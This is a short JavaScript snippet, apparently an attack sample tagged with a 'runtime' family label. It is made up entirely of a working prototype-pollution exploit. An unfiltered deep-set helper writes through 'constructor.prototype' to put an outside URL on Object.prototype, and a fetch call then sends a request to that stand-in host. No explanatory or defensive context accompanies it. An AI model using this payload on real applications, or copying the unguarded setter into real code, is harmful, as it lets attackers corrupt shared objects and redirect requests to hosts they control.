/* {"family": "runtime"} */
const set = (to, path, value) => { const last = path.pop(); path.reduce((at, key) => at[key] ??= {}, to)[last] = value; }; set({}, 'constructor.prototype.endpoint'.split('.'), 'https://out.example/constructor'); fetch({}.endpoint, { mode: 'no-cors' });
